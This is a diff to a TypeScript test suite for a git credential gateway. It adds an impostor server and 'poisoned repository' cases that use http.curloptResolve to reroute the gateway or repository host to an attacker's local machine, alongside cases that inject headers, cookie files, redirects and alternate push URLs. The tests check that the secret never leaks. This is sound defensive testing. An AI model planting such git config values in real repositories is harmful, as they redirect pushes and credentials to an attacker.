@@ -32,6 +32,8 @@ let project: string;
 let repository: string;
 let evil: Server;
 let evilUrl: string;
+/** The attacker's other server: at another address, but at the gateway's port. */
+let impostor: Server;
 /** Everything that anybody sent to the attacker's server. */
 let heard: string[];
 const sockets: CredentialSocket[] = [];
@@ -44,25 +46,34 @@ beforeEach(async () => {
   if (jail.owner) chownSync(project, jail.owner.uid, jail.owner.gid);
   repository = join(project, 'analytics');
   heard = [];
-  evil = createServer(async (req, res) => {
-    heard.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n${await text(req)}`);
-    res.writeHead(401, { 'www-authenticate': 'Basic realm="GitLab"' }).end();
-  });
-  evil.on('connect', (req, socket) => {
-    heard.push(`${req.url}\n${req.rawHeaders.join('\n')}`);
-    socket.end('HTTP/1.1 407 no\r\n\r\n');
-  });
+  [evil, impostor] = [listenFor(heard), listenFor(heard)];
   await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+  const { port } = new URL(world.gateway.url);
+  await new Promise<void>((resolve) => impostor.listen(Number(port), '127.0.0.2', resolve));
   evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
   await prepare();
 });
 afterEach(async () => {
   for (const socket of sockets.splice(0)) await socket.close();
-  evil.closeAllConnections();
-  evil.close();
+  for (const server of [evil, impostor]) {
+    server.closeAllConnections();
+    server.close();
+  }
   await world.close();
   rmSync(project, { recursive: true, force: true });
 });
+
+/** A server that notes all it is told and wants credentials for everything. */
+function listenFor(notes: string[]): Server {
+  const server = createServer(async (req, res) => {
+    notes.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n${await text(req)}`);
+    res.writeHead(401, { 'www-authenticate': 'Basic realm="GitLab"' }).end();
+  });
+  return server.on('connect', (req, socket) => {
+    notes.push(`${req.url}\n${req.rawHeaders.join('\n')}`);
+    socket.end('HTTP/1.1 407 no\r\n\r\n');
+  });
+}
 
 /** The environment of one action, and the secret it works with. */
 async function gitFor(access: PassAccess): Promise<{ git: GitEnvironment; secret: string }> {
@@ -75,8 +86,9 @@ async function gitFor(access: PassAccess): Promise<{ git: GitEnvironment; secret
     answer: answerWithPass({ gatewayUrl, repositories, secret }),
   });
   sockets.push(socket);
-  const git = gitInJail(jail, project, { credentialSocket: socket.path, gatewayUrl, instanceUrl });
-  return { git, secret };
+  const repositoryPaths = repositories.map(({ path }) => path);
+  const way = { credentialSocket: socket.path, gatewayUrl, instanceUrl, repositoryPaths };
+  return { git: gitInJail(jail, project, way), secret };
 }
 
 const identity = {
@@ -169,6 +181,11 @@ describe('a poisoned repository', () => {
       'another address of the remote',
       (url) => `[remote "origin"]\nurl = ${url}/x.git\npushurl = ${url}/y.git\n`,
     ],
+    ['another machine for the gateway', () => `[http]\ncurloptResolve = ${elsewhere()}\n`],
+    [
+      'another machine for the very repository',
+      () => `[http "${world.urlOf('acme/analytics')}"]\ncurloptResolve = ${elsewhere()}\n`,
+    ],
     ['extra headers', () => '[http]\nextraHeader = "X-Evil: 1"\nextraHeader = "Cookie: a=b"\n'],
     ['a cookie file', () => '[http]\ncookieFile = cookies\nsaveCookies = true\n'],
     ['redirects', () => '[http]\nfollowRedirects = true\n'],
@@ -177,8 +194,11 @@ describe('a poisoned repository', () => {
     ['an included file', (url) => `[include]\npath = ../../included\n#${url}\n`],
   ];
 
+  /** The gateway's very host and port, on a machine of the attacker. */
+  const elsewhere = () => `127.0.0.1:${new URL(world.gateway.url).port}:127.0.0.2`;
+
   /** These send git to the attacker, who gets no answer out of the credential helper. */
-  const elsewhere = new Set([
+  const misled = new Set([
     'another address for the repository',
     'another address for the instance',
     'another address for pushes',
@@ -202,7 +222,7 @@ describe('a poisoned repository', () => {
       expect(everything).not.toContain(Buffer.from(`notelab:${secret}`).toString('base64'));
     }
     expect(world.records.at(-1)?.refs[0]?.newOid === newOid, 'the push reached GitLab').toBe(
-      !elsewhere.has(name),
+      !misled.has(name),
     );
     const sent = world.upstream.requests.map(({ headers }) => headers);
     expect(sent.some((headers) => 'x-evil' in headers || 'cookie' in headers)).toBe(false);
